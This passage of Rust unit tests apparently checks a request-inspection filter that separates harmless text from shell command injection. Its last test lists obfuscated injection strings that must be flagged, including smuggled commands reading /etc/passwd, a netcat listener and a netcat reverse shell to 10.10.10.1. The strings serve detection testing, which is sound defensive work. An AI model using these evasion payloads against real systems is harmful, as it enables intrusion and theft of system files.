            "the sc team",
            "price US$-5 off, cash$?",
            "Q&A: what's $PATH? and $HOME",
            r"Wall Street\xe2\x80\x99s benchmark index",
            "fields={id,name}&sort={date,-price}",
            "rock 'n' roll, 's'mores",
            "Hello ${name}, your total is ${total}",
            "items.$[].qty",
            "arr.$[elem].grade",
            "/items[0]/name",
            "50% off ${price} today",
            "cost $[USD]",
            "see bin/README for the scripts",
            "the bin/catalog folder",
            "pick {one,two}",
            "x <b c d e",
            "I <3 u b u n t u",
            "{,}",
            "a{,b}c",
        ] {
            assert!(kinds(v).is_empty(), "{v}: {:?}", kinds(v));
        }
    }

    #[test]
    fn header_command_lines() {
        for v in [
            "visudo",
            "cscli alerts list",
            "set -o history",
            "'cscli' alerts list",
            "ansible all -m ping",
        ] {
            assert!(super::command_line(v), "{v}");
        }
        for v in [
            "Mozilla/5.0 (Macintosh; U; Intel Mac OS X 10_10_1 rv:5.0) AppleWebKit/534.28.2",
            "iPhone (Nextcloud iOS)",
            "Cpanel-HTTP-Client/1.0",
            "curl/8.5.0",
            "python-requests/2.31.0",
            "settings",
            "OWASP CRS test agent",
        ] {
            assert!(!super::command_line(&v.to_ascii_lowercase()), "{v}");
        }
    }

    #[test]
    fn obfuscated_and_prefixed_commands() {
        for v in [
            "time sh -c whoami",
            "strace ifconfig",
            "uname$u -a",
            "pi$()ng 127.0.0.1",
            r#"""p""y""t""h""o""n""3"" ""c""m""d"#,
            "alias eennvv=env&eennvv whoami",
            "www.google.com;c$@at /et$@c/pas$@swd",
            "a=nc&&$a -nlvp 555",
            "www.google.com;c$!at+/et$!c/pas$!swd",
            "x;c$?at /et$-c/passwd",
            "a=/etc&&b=/passwd&&c=cat&&$c $a$b",
            r"powershell C:\windows\system32\notepad.exe",
            ";\n.shell nc 10.10.10.1 6666 -e sh",
            "pi``ng 127.0.0.1",
            "ping$() 127.0.0.1",
            "pi<()ng 127.0.0.1",
            "'c'url localhost",
            "\"w\"get localhost",
            "{,ip,a}",
            "{,ifconfig,eth0}",
            "c{a,ou}t /etc/passwd",
            "{l,-lh}s",
            "{,echo,#test}",
        ] {
            assert!(
                kinds(v).contains(&"injection_command"),
                "{v}: {:?}",
                kinds(v)
            );
        }
    }
}
